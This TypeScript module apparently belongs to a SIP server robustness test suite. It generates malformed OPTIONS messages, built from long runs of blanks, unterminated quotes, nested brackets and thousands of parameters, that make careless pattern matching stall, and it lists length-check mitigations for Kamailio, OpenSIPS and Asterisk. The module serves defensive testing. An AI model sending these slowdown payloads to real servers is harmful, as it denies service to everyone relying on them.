import { attack } from '../attack.ts'
import { field, plusLast } from '../malformed/edit.ts'
import { type Bomb, slowdown } from '../slowdown.ts'

const LENGTH = 8_000

/** Text that makes careless patterns look at every pair of its characters, and names that make tables into lists. */
const BOMBS: Readonly<Record<string, (text: string) => string>> = {
  'tabs in the middle of a field': text => plusLast(text, `Subject: x${'\t '.repeat(LENGTH / 2)}x`),
  'blanks in the middle of a field': text => plusLast(text, `Subject: x${' '.repeat(LENGTH)}x`),
  'quotes without end': text => plusLast(text, `Contact: ${'"\\'.repeat(LENGTH / 2)}`),
  'brackets in brackets': text => field(text, 'To', value => `${'<'.repeat(LENGTH)}${value}`),
  'commas without values': text => plusLast(text, `Contact: ${','.repeat(LENGTH)}`),
  'thousands of parameters': text =>
    field(
      text,
      'From',
      value => value + Array.from({ length: LENGTH / 8 }, (_, at) => `;p${at.toString(36)}`).join(''),
    ),
  'parameters of credentials': text =>
    plusLast(text, `Authorization: Digest ${'username="a", '.repeat(LENGTH / 14)}realm="x`),
  'dots of a host': text => field(text, 'Via', value => value.replace(';', `${'.a'.repeat(LENGTH / 2)};`)),
}

/** Text on which careless patterns work for seconds: everybody waits meanwhile. */
export const slowMatching = attack({
  id: 'slow-matching',
  entry: 'P11',
  title: 'sends text on which careless patterns and tables work for long',
  threats: ['malformed-messages', 'flooding'],
  clause: '§3.1, malformed messages; Table 1, row 6',
  references: ['RFC 3261 §25.1'],
  severity: 'high',
  isIntrusive: false,
  maxMessages: 1_200,
  needs: [],
  expected: 'Others are answered as fast behind such a message as behind a harmless one of its length.',
  mending: {
    aspis: 'On by default: every octet is looked at a bounded number of times; nothing turns it off.',
    kamailio:
      'Refuse by length first, `if (msg:len > 8192)`, before any `=~` or `re.subst` over `$mb` or header fields.',
    opensips:
      'Refuse by length first, `if ($ml > 8192)`, before any `=~` or `{re.subst}` over `$mb` or header fields.',
    asterisk: 'Keep `REGEX()` in the dialplan to short values that went through `FILTER()`.',
  },
  run: trial => {
    const uri = `sip:${trial.target.domain}`
    const bombs = Object.entries(BOMBS).map(
      ([what, spoil]): Bomb => ({
        what,
        bomb: sender => spoil(sender.text({ method: 'OPTIONS', uri, contact: false })),
        harmless: sender =>
          plusLast(sender.text({ method: 'OPTIONS', uri, contact: false }), `Subject: ${'x'.repeat(LENGTH)}`),
      }),
    )
    return slowdown(trial, bombs)
  },
})
